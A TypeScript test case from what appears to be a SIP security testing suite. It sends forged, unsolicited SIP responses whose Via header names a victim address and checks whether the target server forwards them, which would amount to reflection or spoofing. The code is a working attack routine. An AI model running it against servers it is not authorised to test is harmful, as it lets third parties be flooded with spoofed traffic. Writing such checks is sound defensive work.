import { attack } from '../attack.ts'
import { token } from '../saying.ts'
import { MENDING_OF_STRAY_RESPONSES } from '../shared-mending.ts'

/** A response that nobody asked for: forwarded by its Via, it hits a third one in the name of the server. */
export const strayResponseRelay = attack({
  id: 'stray-response-relay',
  entry: 'E05',
  title: 'has the server send responses that nobody asked for to an address of its choice',
  threats: ['reflection', 'spoofing'],
  clause: '§3.3, packet bombarding; Table 1, row 4',
  references: ['RFC 3261 §16.7', 'RFC 3261 §18.1.2', 'RFC 6026 §8.9'],
  severity: 'high',
  isIntrusive: false,
  maxMessages: 20,
  needs: [],
  expected: 'A response that fits no request of the server is dropped (RFC 6026), not forwarded by its Via.',
  mending: MENDING_OF_STRAY_RESPONSES,
  async run(trial) {
    const attacker = await trial.stranger()
    const victim = await trial.stranger({ who: 'victim' })
    const { ip, ports, domain } = trial.target
    const { transport } = attacker.line
    const port = ports[transport] ?? 0
    const tries = [
      { status: '180 Ringing', method: 'INVITE' },
      { status: '200 OK', method: 'INVITE' },
      { status: '200 OK', method: 'OPTIONS' },
      { status: '486 Busy Here', method: 'INVITE' },
    ]
    for (const { status, method } of tries) {
      const text = [
        `SIP/2.0 ${status}`,
        `Via: SIP/2.0/${transport} ${ip}:${port};branch=z9hG4bK${token()}`,
        `Via: SIP/2.0/${victim.sentBy};branch=z9hG4bK${token()}`,
        `From: <sip:somebody@${domain}>;tag=${token()}`,
        `To: <sip:anybody@${domain}>;tag=${token()}`,
        `Call-ID: ${token()}`,
        `CSeq: 1 ${method}`,
        `Contact: <${attacker.contact}>`,
        'Content-Length: 0',
        '',
        '',
      ]
      attacker.line.send(text.join('\r\n'))
    }
    await trial.pause(trial.silenceMs)
    const reached = victim.line.heard.filter(({ status }) => status > 0).length
    const counts = { tried: tries.length, reached }
    if (reached > 0)
      return trial.succeeded(
        `${reached} of ${tries.length} responses that answered nothing were sent on to an address of the attacker's choice`,
        counts,
      )
    return trial.resisted(`none of ${tries.length} responses that answered nothing was sent on`, counts)
  },
})
